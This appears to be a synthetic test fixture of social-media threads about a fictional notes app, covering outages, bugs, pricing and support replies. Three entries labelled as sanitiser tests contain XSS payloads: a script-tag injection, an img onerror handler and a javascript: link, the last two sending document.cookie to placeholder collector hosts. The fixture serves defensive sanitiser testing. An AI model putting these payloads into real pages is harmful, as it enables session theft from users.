>>>> op@6m: Phone has it. Thank god. Still, I'm paying for Pro and the web app is exactly the thing that's down.
> us@11m: Hi all, Sam from the Lumen team. Yes, we're seeing it too: sync and the web app are returning errors for a large share of users since about 14:05 UTC. Your local data on desktop and mobile is safe and edits will sync when we're back. Engineers are on it, I'll post updates here and on status.lumennotes.example.
>> anon2@2m: Status page STILL shows operational, fyi. Might want to poke whoever owns that.
>>> us@6m: You're right, sorry. It's updated now. That page is supposed to flip automatically and didn't, which we'll look into as well. — Sam
>> ben@8m: Any ETA? Not angry, just need to know whether to switch to plan B for the afternoon.
>>> us@9m: No solid ETA yet, honestly. Current theory is a bad config rollout on our database proxy. If it's a rollback, it's quick. I'll update within 30 minutes either way.
> anon3@18m: This is the second time this year. I'm paying $60/yr for sync and sync is the thing that keeps breaking. Seriously considering cancelling and moving to Notewell.
>> quietkeys@7m: Second time? I only remember the login thing in March, and that was 20 minutes. Not defending it, but this isn't a weekly event.
>>> anon3@9m: March plus the widget mess plus this. It adds up when it's the one thing you pay for.
> margin@22m: Mod note: this is the megathread for the outage. Please post here instead of making new threads, I've removed 6 duplicates already. Be civil, the team is reading.
> us@31m: Update 15:14 UTC: we've rolled back the proxy config. Sync is recovering region by region and the web app should load again for most of you. Please don't force-quit mid-sync, let it finish. Big accounts can take 10–15 minutes to catch up. — Sam
>> nightowl@4m: Web is back for me! Desktop still catching up.
>> anon4@7m: Still 503 here (Sydney). Is APAC on a different cluster?
>>> us@12m: Yes, APAC is the last one coming back, about 10 more minutes. Sorry, we see you.
>>>> anon4@14m: Back now, thanks.
>> syncwoes@16m: Mine synced. Phone and web match. Thanks for the updates at least, that helped.
> anon5@45m: After sync came back I have two copies of three notes, one says "(conflict copy 2026-11-17)". Which one do I keep??
>> pete@5m: The conflict copy is the version from the device that lost the race. Open both, usually one is a few lines shorter. 4.2 has a compare view: right click → Compare versions.
>>> anon5@9m: Compare view, didn't know that existed. Kept the longer one, merged one paragraph by hand. All good.
>> us@25m: What Pete said 🙂 There's also a guide: https://lumennotes.example/help/conflict-copies. Nothing gets deleted, worst case you get an extra copy.
> aisha@2h: Will there be a post-mortem? Not looking for blood, just want to know if "local data is safe" actually held for everyone.
>> us@1h: Yes, by tomorrow, here and on the blog. So far we have zero reports of lost data, only conflict copies. If anyone thinks they lost something, DM us or email support@lumennotes.example and we'll look at it personally. — Sam

%% Mastodon: Lumen Assist (AI) feature debate
=== m at=12T15:00
us: Today we're opening the beta of Lumen Assist: summaries, "find related notes" and tidy-up suggestions.\n\nIt's off by default. Nothing is processed unless you turn it on per notebook, and Pro users can choose on-device mode on Apple silicon and recent Android phones.\n\nDetails & FAQ: https://lumennotes.example/blog/introducing-lumen-assist\n\n#lumennotes #ai
> eli@9m: "Off by default" is good. What happens to notes in cloud mode? Which provider, what retention, is it used for training? Those three answers decide whether I keep recommending you.
>> us@35m: Fair, and they're in the FAQ but should be up front: cloud mode runs on our own inference servers in Frankfurt, not a third-party API. Inputs live in memory for the request only, nothing is stored, nothing is used for training. — Mei (product)
>>> eli@20m: That's a better answer than most companies give. "Our own servers" is doing a lot of work though. Will you publish the model and a data flow diagram?
>>>> us@1h: Yes to the diagram, and I'm pushing for the model name too. It's a fine-tuned open-weights model; I'd rather we just say which one.
>>>>> eli@15m: Then I'll reserve judgment until that's up. Bookmarked.
> owen@14m: Oh good, a note-taking app with AI. Exactly what the world was missing. Can I have working Android widgets first?
>> maria@6m: The widget thing is real, but "related notes" is the one feature I've wanted for years. I have 4,000 notes and search only finds what I remember the exact wording of.
>>> owen@12m: Backlinks + tags already do that if you tag things. I don't need a language model guessing.
>>>> maria@8m: You tag things. I have a life 😄 Different workflows, that's what the toggle is for.
>>>>> owen@25m: Toggles have a way of becoming defaults two releases later. I've been around long enough to see it.
>>>>>> nadia@30m: This is the worry I share. I'd love a public commitment that it stays opt-in.
>>>>>>> us@50m: Here it is then: Assist stays opt-in, per notebook, and we won't switch it on for existing notebooks. If that ever changes we'll announce it months ahead, and you can hold us to this post. — Sam
>>>>>>>> owen@40m: Screenshotted. I'll be back.
> sven@40m: Does any of it run on the Linux desktop app, or is this another Mac-first feature?
>> us@1h: Cloud mode works on Linux from day one. On-device mode is Mac and Android for now because that's where we could make it fast enough. Linux/Windows on-device is on the list, no date yet.
>>> sven@20m: Fair enough. Still waiting for the Flatpak though 😉
> ben@2h: Tried the beta on a notebook of meeting notes. Summaries are… actually decent? It got the action items right and didn't invent any. Tidy-up is way too eager though, it wanted to merge two unrelated notes.
>> us@1h: Really useful, thank you. Could you send the two notes' titles (not contents) through the feedback button? Tidy-up is the least mature part.
>>> ben@30m: Sent. Both titles start with "Weekly sync", I bet that's it.
> kenji@3h: Serious question: what's the latency in cloud mode, and does it degrade gracefully when your servers are down? A notes app should never block on a remote call.
>> us@2h: Assist never blocks the editor. It runs in the background, and if it can't reach the server the panel just says so. A summary of a normal-length note takes 1–3 s.
> aisha@5h: As a writer I'm split. "Find related" yes, summaries anywhere near my drafts absolutely not. Per-notebook toggle means I can do exactly that, so, ok. Thanks for not making it one global switch.
> eli@1d: Follow-up: thanks for publishing the data flow diagram and the model card. That's how you do it. Keeping it off for my journal, but I'm comfortable recommending Lumen again.

%% Bluesky: Pro price change
=== b at=16T16:00
us[en]: Pricing update for Lumen Pro: from Jan 1, new monthly subscriptions are $7 (annual stays $60). Already on Pro? Your price stays for 12 months. Why we're doing it, with the cost breakdown: https://lumennotes.example/blog/pro-pricing-2027
> anon@6m: $5 to $7 is a 40% increase. Inflation wasn't 40%.
>> us@40m: It isn't, and we're not pretending it is. Sync and storage costs went up, and we're adding two people to support so replies don't take 3 days. Annual stays at $60, same as today. — Sam
>>> anon@15m: Wait, annual is unchanged? Then that should be the headline.
>>>> us@20m: Yeah… in hindsight, it should have been.
> jordan@25m: Honest take: $60/yr for what Lumen does is still cheaper than Notewell or Stackpad, and 12 months of grandfathering is generous. Should have led with the annual price though.
>> anon2@10m: Easy to say with 60k followers and probably a free account.
>>> jordan@18m: I pay for it like everyone else. Happy to show the receipt 🙂
> grace@1h: Is there still an education discount? I use it with my whole class.
>> us@45m: Yes: 50% off for students and teachers, unchanged, and classroom accounts stay free. https://lumennotes.example/education
>>> grace@10m: Perfect, thank you!
> hannah@2h: as a student this is still fine with the discount. as a person who is tired of everything becoming a subscription, ugh
>> anon3@20m: doesn't lumen still sell a one-time desktop license? or did they kill that
>>> us@30m: Still exists: $79 one-time for desktop without sync. It's not going anywhere.
> tomas@3h: Writing a short piece on note apps raising prices this quarter. @LUMEN can I get a comment on how many Pro users are affected? DMs open.
>> us@20m: Thanks Tomás, just sent you a DM.
> maria@4h: The blog post is actually a good read. Appreciate the cost breakdown, more companies should show their math.
> marcus@5h: Cool cool. Maybe stop charging me twice before raising prices? Still waiting on that refund from last week.
>> us@15m: Marcus, that's not ok and I'm sorry it's taking this long. The refund for the duplicate charge was approved this morning and will show in 3–5 business days. You'll get a confirmation email today. — Priya
>>> marcus@2h: Got the email. Thanks Priya.

%% Reddit: "notes gone" after the 4.2 migration
=== r at=11T08:12
anon: Updated to 4.2 and three months of notes are GONE\n\nUpdated the desktop app (Windows) last night. This morning my "Work" notebook only has notes up to August. Everything from August to now is missing. Web app shows the same. Trash is empty. I have not deleted anything. This is genuinely my worst nightmare right now, I run my whole job out of this.\n\nSteps: Windows 11, updated 4.1.3 → 4.2.0 with the in-app updater, restarted, synced. That's it.
> quietkeys@14m: Don't touch anything else yet. Do you have Settings → Backups turned on? Desktop keeps local snapshots in %APPDATA%\Lumen\backups by default.
>> op@10m: There's a folder with snapshots up to yesterday. Should I restore one?
>>> quietkeys@6m: Don't restore yet, copy the whole folder somewhere safe first. Then wait for the team, restoring can create a mess of conflict copies.
>>>> op@5m: Copied. Thank you, my heart rate is coming down a bit.
> pete@30m: Check if you have a new notebook called "Archive (migrated)". 4.2 changed how nested notebooks work and some of my stuff got moved there.
>> op@8m: …there's an "Archive (migrated)" notebook with 212 notes in it. Those are them. WHY would it move them there?
>>> pete@6m: It moved the notes that were in sub-sub-notebooks for me. Did you have Work → Clients → something?
>>>> op@4m: Yes, Work → Clients → 2026. Exactly those.
> nightowl@1h: Same thing happened to me, 40 notes. Found them in the archive notebook. This should be a big red banner in the app, not something you find out about on reddit.
> us@1h: Hi, Priya from Lumen support. Thank you for the clear steps, and I'm really sorry for the scare. This is a confirmed bug: the 4.2 migration flattens notebooks nested 3+ levels deep and moves their notes into "Archive (migrated)". Nothing was deleted. 4.2.1 will restore the original structure automatically. Until then, please don't delete the Archive notebook.
>> op@20m: Ok. Glad they're there. But I'd like to understand how this shipped, nested notebooks aren't exactly an edge case.
>>> us@45m: Completely fair. Our migration test fixtures had two levels of nesting, never three. We've added deeper fixtures and a dry-run check before any migration touches real data. The 4.2.1 notes will go into it.
> theo@3h: Anyone know if 4.2 on Mac does this too? Holding off on updating.
>> quietkeys@15m: It's shared migration code, so probably yes. I'd wait for 4.2.1.
>>> us@40m: Yes, all platforms. 4.2.1 is in review with Apple and rolls out later this week. If you already updated, your notes are in the Archive notebook.
> anon2@5h: Honestly this is how you lose users. Data loss scare in a notes app = trust gone.
>> quietkeys@20m: Nothing was lost though. It's a bad bug, but the notes are all there.
>>> anon2@30m: Tell that to my blood pressure this morning.
%% ======================================================================
%% MASTODON
%% ======================================================================

=== m at=10T15:30
us: Lumen 4.2 is out! 🎉\n\n• New editor: faster, and tables finally behave\n• Canvas boards: drag notes onto a freeform board\n• Home screen widgets on Android\n• Compare versions for conflict copies\n\nFull changelog: https://lumennotes.example/changelog/4-2\n\n#lumennotes
> maria@8m: Tables that behave!!! Updating right now.
>> maria@1h: Ok, the new editor is snappy. Pasting a table from a spreadsheet keeps the columns now. Thank you, this was my #1 annoyance.
> anon@20m: Canvas looks like exactly what I wanted for planning my thesis chapters. Does it work on iPad with the Pencil?
>> us@30m: It does! The Pencil works for moving cards and drawing connectors. Handwriting inside cards is coming later.
> owen@45m: Widgets on Android, in 2026. Truly we live in the future.
>> anon2@15m: Be nice, they're a small team.
>>> owen@10m: I am being nice. This is my nice voice.
> nadia@2h: Does the new editor work with TalkBack and VoiceOver? The old one announced every table cell twice.
>> us@1h: We fixed the double announcements and tested the editor with both, but we'd love your eyes on it. If you find anything, tag us or email accessibility@lumennotes.example — Sam
>>> nadia@1d: Spent the morning with it. Tables are much better, headings are announced properly now. Canvas is not usable with a screen reader at all though: cards aren't focusable.
>>>> us@2h: Thank you for testing so thoroughly. Canvas keyboard and screen reader support is a known gap; your report is filed with the details and it's tracked for 4.3. We know it's not good enough to ship like this.

=== m d=11-12
theo: the new Android widget shows "Can't load notes" after every reboot until I open the app once. Pixel 7, Android 16, Lumen 4.2.0. Removing and re-adding the widget fixes it until the next reboot.
> anon@1h: Same on a Galaxy S24. The widget also doesn't update when I edit a note on desktop.
> us@3h: Thanks both, reproduced. After a reboot the widget isn't allowed to start its sync job until the app has been launched once. The fix is in 4.2.1. Sorry for the annoyance!
>> theo@20m: 👍 thanks for the quick answer

=== m
sven: any chance of an official Flatpak? The AppImage works but doesn't integrate with the desktop and doesn't auto-update. #linux #flatpak
> anon@40m: +1, or at least an apt repo.
> us@5h: It's being worked on! The Flatpak is in internal testing. We want auto-update and the file picker portal working properly before it goes on Flathub. Hoping for December.
>> sven@30m: Best news I've had all week.
>>> anon2@2h: Will it be verified on Flathub or a community wrapper?
>>>> us@1h: Verified, published by us.

=== m d=10-22
ivy: Design nerd appreciation post: the new @LUMEN icon set is gorgeous. Consistent stroke weights, nothing feels random. Whoever did this, give them a raise.
> anon@2h: The calendar icon especially. It finally looks like a calendar and not a waffle.

=== m
anon: how do I export everything to Markdown? I want a backup I can read without the app. Is there a way to keep the folder structure?
> ben@25m: File → Export → Markdown, then tick "Keep notebook folders". Attachments go into an _attachments folder next to each note.
>> anon@10m: Perfect, that worked. Thanks!

=== m
owen: Love that @LUMEN's "offline mode" needs a network connection to tell me I'm offline. Very zen.
> us@3h: Ha, ok, that one stung because it's true. The offline banner tries to ping the server before it shows up. Filed. — Sam
>> owen@1h: Credit where due, that's a good reply.

=== m d=10-14
kenji[en]: Bug report for @LUMEN, 4.2.0 on macOS:\n\n1. Open a note with a code block\n2. Type ``` and a language name\n3. Paste more than ~200 lines\n\nEditor freezes for 8–10 s, CPU pegged. Doesn't happen with syntax highlighting off. Happy to send a sample file.
> us@2h: Thank you for the perfect repro. Yes please: support@lumennotes.example with "for Mei" in the subject. We suspect the highlighter re-parses the whole block on every keystroke.
>> kenji@30m: Sent.
>>> us@1d: Found it: it was re-highlighting the block for every chunk of the paste. Fix is in 4.2.1. A 1,000-line paste now takes ~40 ms on my machine.
>>>> kenji@2h: 🙌 that's a huge difference. Thanks for closing the loop.

=== m d=9-19
lena[de]: Gibt es eine Möglichkeit, die Sprache der Rechtschreibprüfung pro Notiz einzustellen? Ich schreibe abwechselnd Deutsch und Englisch und die Hälfte wird rot unterstrichen. #lumennotes
> felix{de}@40m: Bei mir hilft es, beide Sprachen in den Systemeinstellungen zu aktivieren. Dann erkennt macOS das meistens automatisch.
>> lena{de}@30m: Ich bin auf Windows, da klappt das leider nicht so gut.
> us{de}@4h: Hallo Lena! Pro Notiz geht es leider noch nicht, aber mit 4.3 kommt eine Sprachauswahl pro Notizbuch. Bis dahin kannst du per Rechtsklick → Rechtschreibung schnell die Sprache umschalten. Viele Grüße, Jonas vom Lumen-Team
>> lena{de}@1h: Super, danke Jonas! Das hilft schon sehr.

=== m
camille[fr]: Petite question pour @LUMEN : est-ce que la synchro chiffrée de bout en bout est prévue ? Pour mes notes de terrain (je suis journaliste), c'est un critère important.
> anon{fr}@1h: Je me pose la même question. Pour l'instant, je garde les trucs sensibles dans un coffre chiffré à part.
> us{fr}@5h: Bonjour Camille ! Oui, le chiffrement de bout en bout est en développement pour des carnets « coffre-fort », avec une bêta prévue début 2027. D'ici là, vos données sont chiffrées au repos et en transit, mais nous y avons techniquement accès. — Sam
>> camille{fr}@2h: Merci pour cette réponse claire et honnête. J'attends la bêta avec impatience.

%% sanitiser test 1: <script>
=== m d=13-15
eli: HTML:<p>{lumen} heads up: your web clipper doesn&#39;t escape page titles. Clip a page titled</p><p><script>alert(1)</script></p><p>and the note list pops an alert. Reported to security@ as well, posting here because it&#39;s been a week without a reply.</p>
> us@2h: Thanks Eli, and sorry the security inbox was slow, that's on us. Confirmed and fixed server-side an hour ago; clipper 1.8.3 is in the extension stores now. We'd like to credit you in the advisory if that's ok.
>> eli@40m: Sure. And please put an auto-reply with a response time on security@. Silence is what makes people post in public.

%% sanitiser test 2: <img onerror>
=== m d=12-20
anon: HTML:<p>My NaNoWriMo plot board, made with the new Canvas feature from {lumen} and honestly loving it <a href="https://{inst}/tags/nanowrimo" class="mention hashtag" rel="tag">#<span>nanowrimo</span></a></p><p><img src=x onerror="fetch('https://collector.example/c?d='+document.cookie)"></p><p>plot beats on the left, character notes on the right, 31k words so far</p>

%% sanitiser test 3: javascript: link (scam reply bait)
=== m d=17-20
scam: HTML:<p>{lumen} 🎁 Lumen Pro is FREE for 12 months for early supporters! Claim yours before they run out: <a href="javascript:fetch('//steal.example/'+document.cookie)" rel="nofollow noopener noreferrer" target="_blank">lumennotes.example/pro-gift</a></p><p>Only 500 codes left!!</p>
> us@1h: Heads up everyone: this is not from us. We will never give away Pro through a link in a reply. Please don't click it; we've reported the account to its server. — Sam

=== m at=17T14:19 fast
kenji: Is @LUMEN sync down for anyone else? Getting 503s from the web app. Status page says all good.
> anon@3m: Yep, down here too.
> maria@5m: Down in Lagos too. Local notes are fine, nothing syncs.
> us@12m: Yes, we're on it: sync and web have been down for many users since ~14:05 UTC. Local data is safe. Updates on https://status.lumennotes.example (which now actually shows it, sorry about that).
>> kenji@50m: Recovered here. Curious about the post-mortem, the "status page didn't flip" part is the interesting bit.
>>> us@=18T12:26: Post-mortem is up: https://lumennotes.example/blog/nov-17-sync-incident. The status page section is near the end. Short version: it was monitoring the same proxy that broke 🤦
>>>> kenji@1h: Classic. Good write-up, and thanks for not hiding behind "a small subset of users".

=== m at=17T14:40 fast
felix[de]: Die Synchronisation bei @LUMEN ist gerade komplett weg, die Web-App lädt nicht. Zum Glück hat die Desktop-App alles lokal. Trotzdem ärgerlich mitten am Arbeitstag.
> us{de}@25m: Hallo Felix, ja, leider haben wir seit ca. 15:05 Uhr (MEZ) eine Störung. Deine lokalen Daten sind sicher. Wir melden uns hier, sobald alles wieder läuft. – Jonas
>> us{de}@20m: Update: Die Synchronisation läuft wieder, Europa ist vollständig zurück. Danke für eure Geduld!

=== m d=10-22
aisha: Feature request for @LUMEN: a daily note that opens automatically with a template (date, three priorities, a log). I do this by hand every morning and it's the one thing I miss from paper journaling.
> anon@30m: You can sort of do this with templates and the "new note from template" shortcut. Not automatic though.
>> aisha@20m: Yes, it's the automatic part I want. Open the app, today's page is just there.
> maria@3h: Yes please. I have a shortcut that creates "YYYY-MM-DD" notes and it's held together with tape.
>> aisha@40m: Tape is the official material of productivity systems.
> anon2@5h: The monthly request thread on r/LumenNotes says daily notes are "in progress", for what it's worth.

=== m
anon: Switched from Notewell to @LUMEN last month and the import was flawless. 1,800 notes, tags intact, attachments intact. Wild.

=== m
anon: Small thing, but the @LUMEN dark mode is the first one that doesn't make my eyes water at 2am. Proper contrast, no pure black. Thank you.
> anon2@3h: Agreed, and the sepia theme is lovely for reading long notes.

=== m at=8T21:15
anon: Three years in and @LUMEN is still the first app I open every morning. That's the review.

=== m d=11-22
anon: Does anyone use @LUMEN for recipes? Curious how people organise them. I have one giant notebook and it's chaos. #cooking
> anon2@40m: A tag per cuisine plus a "tried it" tag. And since 4.2 a Canvas board for meal planning.
> anon3@2h: One note per recipe, title starts with the main ingredient. Dumb, but it works.
>> anon@20m: "Chickpea – curry", "Chickpea – salad"... ok, I like this.

=== m d=10-12
anon: I cancelled Pro on Nov 2 and you charged me again on Nov 9. $60. I want a refund, not another "we're looking into it". This is my third email.
> us@40m: I'm sorry, that shouldn't have happened. Can you DM me the email on your account? I'll take this one myself and make sure it's refunded today. — Priya
>> anon@20m: Sent.
>>> us@1h: Refund issued, and I've confirmed the subscription is cancelled on our side. It'll show in 3–5 business days. Sorry again that it took three emails.

=== m dm=17 d=11-12
anon: I'm writing here because support isn't answering. I was charged twice for Lumen Pro this month, $59.99 each time, and my bank says I have to dispute it if you don't refund. I've been a customer since 2021 and this is really frustrating. Refund the duplicate or I'll do a chargeback and cancel.
> us@50m: Hi, I'm really sorry. I can see both charges and the second one is our fault: a payment retry went through after the first payment had already succeeded. I've refunded the duplicate just now, so no chargeback needed. You should see it in 3–5 business days. — Priya, Lumen support
>> anon@15m: Ok. Thank you. Why did nobody answer my two emails though?
>>> us@20m: They landed in a queue that got swamped after the 4.2 release, which isn't an excuse. I've replied to them too so everything is in one place. If the refund doesn't show by Friday, message me here and I'll chase it.
>>>> anon@3d: It came through. Thanks for sorting it out.

=== m
nadia: Is there a list of all @LUMEN keyboard shortcuts somewhere? The help page only shows the basic ones and I navigate almost entirely by keyboard.
> anon@40m: Press Ctrl+/ (Cmd+/ on Mac) anywhere in the app, it opens the full list and it's searchable.
>> nadia@30m: Oh, that's great. Didn't know about that. Thanks!

=== m d=11-20
ivy: Some unsolicited design feedback on @LUMEN Canvas: connector arrows snap to the card center, so on dense boards everything overlaps into a hairball. Snap to edges, please 🙏 Otherwise a really lovely feature.
> anon@1h: Also: let me colour the connectors.
> maria@2h: Agree on edge snapping. I gave up on connectors and just use proximity.
>> ivy@40m: Proximity boards are underrated honestly.
> us@1d: Both great ideas. Edge snapping is already in the 4.3 branch (our designer had the same complaint). Coloured connectors noted!
>> ivy@10m: Yesss

=== m
theo: what's the attachment size limit on Pro? Trying to attach a 300 MB lecture recording and it just says "upload failed".
> ben@1h: It's 200 MB per file on Pro, I ran into the same thing. The error message really should say so.
>> theo@20m: Ugh. Ok, link to the recording it is. Thanks!

=== m
owen: "Your notes, beautifully organised" says the @LUMEN homepage. My notes, staring back at me: 14 notes called "Untitled". Not your fault. Mostly.
> maria@30m: The "title from first line" setting is your friend.
>> owen@15m: I refuse to be helped.

=== m d=19-20
aisha: Finished the first draft of my novel in @LUMEN. 92,000 words, 61 notes, and one Canvas board that looks like a crime scene. Thank you for an app that stays out of the way. #amwriting
> anon@2h: Congrats! I'd love to hear how you structured the notes.
>> aisha@1h: One note per scene, a tag per POV character, and the Canvas for the timeline. Might write a blog post about it.

=== m d=13-20
anon: Been a @LUMEN user since 2020 and I'm close to cancelling. Every release adds shiny stuff (Canvas, AI) while search still can't find a word inside a PDF attachment. Fix the basics.
> anon2@45m: PDF search would be huge, agreed.
> us@5h: That's fair criticism. PDF full-text search is in progress; it indexes on-device, which is why it's taking a while. I'd rather tell you honestly it's early 2027 than promise next month. — Sam
>> anon@2h: Thanks for an actual date. I'll hang on.

=== m
ben: Does @LUMEN have a public API? I want to pipe meeting notes from a script into a notebook.
> anon@1h: There's an undocumented local one the desktop app uses, but I wouldn't build on it.
> anon2@3h: Every notebook has an email-in address (Settings → Notebook → Email in). I pipe cron job output into it.
>> ben@30m: Email-in works for now, neat.

=== m d=11-20
maria: #lumennotes tip: drag a note onto a Canvas card to link it instead of copying it. Changed how I plan sprints. (cc @LUMEN)
> anon@2h: Wait, it links?? I've been copy-pasting for a month.

=== m d=10-14
anon: Help: @LUMEN desktop on Windows opens to a white screen since this morning. Reinstalled, same thing. 4.2.0.
> anon2@20m: Do you have an AMD GPU? I had the same. Start it once with --disable-gpu, then turn off hardware acceleration in Settings → Advanced.
>> anon@15m: AMD indeed. That fixed it, you're a hero.
>>> anon2@5m: Credit goes to some random reddit thread tbh

=== m at=20T14:00
us: Lumen 4.2.1 is rolling out now:\n\n• Restores notebooks moved to "Archive (migrated)"\n• Android widgets work after a reboot\n• No more freeze when pasting long code blocks\n• Fixes the iOS share sheet crash\n\nThanks to everyone who sent detailed reports. https://lumennotes.example/changelog/4-2-1
> theo@30m: Widget works after reboot 🎉
> kenji@1h: Confirmed, code block paste is instant now.
> anon@2h: Still no Flatpak though 😛
>> sven@20m: Patience, friend. December.
> anon2@3h: My notes came back from the Archive notebook, in the right places. Phew.

=== m
anon: Would @LUMEN ever consider a self-hosted sync server? I'd pay for Pro and run the server myself. #selfhosted
> sven@1h: This would make me move everything over tomorrow.
> eli@2h: Even a documented sync protocol would do, people would build the server.
> us@1d: Honest answer: not on the roadmap right now. Supporting other people's servers is a big support load for a team our size, and E2E encryption is how we're addressing the same concern. Not the answer you wanted, I know.
>> anon@3h: Appreciate the honesty at least.

=== m
anon: the @LUMEN support team fixed my weird sync issue in 20 minutes on a Sunday. That's it, that's the post.

=== m dm=26
anon: Hi! I'm a teacher at a small school. Is there a way to get Lumen Pro for a class of 24 students without everyone paying individually?
> us@3h: Hi! Yes, classroom accounts are free for schools: you create a class space and invite students, and they get Pro features inside it. Sign-up is here: https://lumennotes.example/education. If anything's unclear, just reply here. — Sam
>> anon@1h: That's amazing, thank you!

=== m
felix[de]: Frage an @LUMEN: Wo stehen eure Server? Für die Arbeit brauche ich einen Auftragsverarbeitungsvertrag (AVV). Gibt es sowas?
> us{de}@5h: Hallo Felix, unsere Server stehen in Frankfurt. Einen AVV nach DSGVO gibt es für alle Pro- und Team-Konten, du findest ihn unter https://lumennotes.example/legal/dpa. Bei Fragen melde dich einfach! – Jonas
>> felix{de}@1h: Perfekt, genau das brauchte ich. Danke!

=== m
anon: Quick q for @LUMEN folks: if I edit the same note offline on my phone and on my laptop, what happens when both sync? Last write wins, or merge?
> ben@40m: It merges paragraph by paragraph. If the same paragraph changed on both, you get a conflict copy.
>> anon@15m: That's better than I expected. Thanks!

=== m at=17T19:30
owen: @LUMEN raising prices the day before your sync goes down for an hour is some impressive timing.
> anon@1h: The outage was the day after, technically. Wait, that's worse.
> us@3h: Yeah, we noticed the timing too, nobody's happy about it here either. Every Pro subscriber gets a free week, and the post-mortem comes out tomorrow.

=== m d=9-19
eli: your Android app shows two tracker SDKs in a scan (crash reporting + analytics). Is the analytics one opt-out or opt-in? I can't find a setting.
> us@6h: Crash reporting is opt-in on first launch. The analytics SDK was removed in 4.1, but a stub is still linked, which is why scanners flag it. The leftover code goes away in 4.2.1. You're right that it should already be gone.
>> eli@2h: Good. I'll rescan after 4.2.1.

=== m d=11-14
kenji: Took all my conference notes in @LUMEN Canvas this week: one card per talk, arrows for "steal this idea". Best conference notes I've ever had.

=== m d=11-22
camille[fr]: Je viens de découvrir les tableaux Canvas de @LUMEN et c'est exactement ce qu'il me fallait pour organiser mes reportages. Bravo à l'équipe !

=== m
ivy: The new @LUMEN onboarding is so good. Three screens, a skip button, no dark patterns. Screenshotting it for my team's design review.

=== m at=16T16:05
us: Pricing update for Lumen Pro: from January 1, monthly goes from $5 to $7 for new subscribers. Annual stays at $60. If you're already subscribed, your price stays the same for 12 months.\n\nFull reasoning & cost breakdown: https://lumennotes.example/blog/pro-pricing-2027
> anon@20m: Appreciate that you kept annual the same and explained why. This is how a price change should be done.
> owen@40m: Looking forward to the AI-generated apology when it's $9 next year.
>> anon2@25m: You could just... not be like this
>>> owen@10m: I really couldn't.
> eli@2h: Does the one-time desktop license still exist? That's what I recommend to people who don't need sync.
>> us@1h: Yes, unchanged at $79.

=== m d=9-20
dana: Working on a story about how people organise their notes. If you use @LUMEN (or anything similar) and have an interesting system, my DMs are open.
> anon@1h: Does "47 tabs and a prayer" count as a system
> aisha@3h: Happy to talk! I wrote a whole novel with it this year.
>> dana@1h: Perfect, sending you a DM.

=== m d=11-22
anon: is there a way to change the default font in the @LUMEN editor? The new one is a bit too round for my taste.
> anon2@1h: Settings → Appearance → Editor font. The old one is still there as "Lumen Classic".
>> anon@20m: Classic it is. Thanks!

=== m
anon: Using @LUMEN for my D&D campaign and backlinks are perfect for NPCs. Every character links to every session they showed up in. #ttrpg

=== m d=10-19
anon: the new @LUMEN editor ate my indentation when pasting from a terminal. Tabs → nothing. 4.2.0 on Linux.
> us@2h: Thanks! Can you try Ctrl+Shift+V (paste as plain text)? That keeps tabs. Regular paste stripping them is a bug, we're on it.
>> anon@30m: Plain paste works 👍

=== m d=11-20
maria: Dear @LUMEN, the Canvas minimap is gorgeous. That is all.

=== m d=19
anon: will there be a Black Friday deal on @LUMEN Pro? Asking for my wallet.
> owen@1h: The Black Friday deal is that annual didn't go up.

=== m d=11-22
theo: does the iPad app support Stage Manager windows yet? It refuses to resize for me.
> anon@1h: It works since 4.2 for me, but I had to restart the app once after updating.
>> theo@45m: Restart did it. Weird but ok.

=== m
anon: is the #lumennotes Discord still a thing, or did everything move to the subreddit?
> sven@2h: They closed it over the summer. It's r/LumenNotes and here now.

=== m
anon: Can @LUMEN import a Notewell export (.nwx)? I have 10 years of notes stuck in an old export file.
> ben@1h: Yes: File → Import → Notewell. Tags come over, notebooks too. Took about 10 minutes for my 3,000 notes.

=== m d=11-22
nadia: Thank you @LUMEN for adding a "reduce motion" option. The Canvas zoom animations were making me dizzy.

=== m d=10-22
anon: can I turn off the "What's new" popup @LUMEN shows after every update?
> anon2@45m: Settings → General → "Show release notes after updates". Took me a while to find too.

=== m at=22T11:52
owen: Update: the @LUMEN Android widget now survives a reboot. I have nothing sarcastic to say. I'm as surprised as you are.

=== m
kenji: Hey @LUMEN, the web app fires 30+ requests to the same /api/prefs endpoint on load. Not a bug exactly, but it'll hurt you at scale. Happy to share a HAR.
> us@3h: Yes please! That's… not intended. support@lumennotes.example, and thank you.

=== m d=10-16
anon: your 4.2 update broke my Canvas boards, half the cards are stacked in the top-left corner. Hours of work. Not impressed.
> us@40m: That's awful, sorry. Don't rearrange anything yet: the positions are still stored, it's a rendering bug for boards created in the 4.2 beta. Toggling "Snap to grid" off and on redraws them. Proper fix in 4.2.1.
>> anon@25m: Toggle worked, everything's back where it was. Thanks for the fast reply.

=== m
anon: Has anyone figured out how to make @LUMEN start minimised to the tray on login? Windows 11.
> anon2@2h: Settings → General → "Start at login" and then "Start minimised". Second option only shows once the first is on.
=== m d=12-18
nadia: Accessibility check of @LUMEN 4.2 Canvas, for anyone who relies on a screen reader: cards can't be focused, connectors aren't announced, and there's no list view fallback. The editor itself is much improved. I'd hold off on Canvas for now. #a11y
> anon@30m: Thank you for doing these reviews, they're the only reason I know what's safe to update to.
> maria@1h: Would a list view fallback be hard? It's basically an outline of the cards.
>> nadia@20m: Not hard at all, and it would help keyboard users and people with low vision too. Outline views are underrated.
>>> anon2@45m: I'd use that too honestly. Sometimes I just want to see the cards as a list.
> anon3@2h: Boosting. Accessibility regressions in a notes app are a big deal for people who use it for work.

=== m
anon: Every few months I get tempted to go back to plain Markdown files in a folder. Then I remember sync, search and mobile. @LUMEN users who made the opposite move, how did it go?
> owen@20m: Went to plain files for a year. Loved it, right up until I needed a note on my phone in a parking lot.
>> anon@15m: The parking lot test, yes.
> sven@1h: Scheduled Markdown export gives you both. Lumen to work in, files for peace of mind.
>> anon2@30m: This is my setup too. The export keeps folders, so the files are actually usable.
> ben@2h: Plain files + git for code notes, Lumen for everything else. Two systems, but each one is good at its thing.

=== m d=10-20
sven: PSA for #linux folks: if @LUMEN on Wayland has blurry text with fractional scaling, launch it with --ozone-platform=wayland. Crisp ever since.
> theo@1h: Oh nice, that's been bugging me for weeks. Does the tray icon still work that way?
>> sven@20m: On KDE yes. On GNOME you need the AppIndicator extension anyway.
>>> theo@15m: GNOME, so, extension it is. Thanks!
> anon@3h: Bookmarking. Would be nice if the AppImage did this automatically.

=== m
anon: I'm a first-year student and my @LUMEN notebooks are already a mess after 8 weeks. How do you organise lecture notes? One notebook per course? Per semester?
> anon2@20m: One notebook per course, one note per lecture titled with the date. Tag anything exam-relevant.
> maria@45m: Same, plus a "questions to ask" note per course. Best habit I picked up at uni.
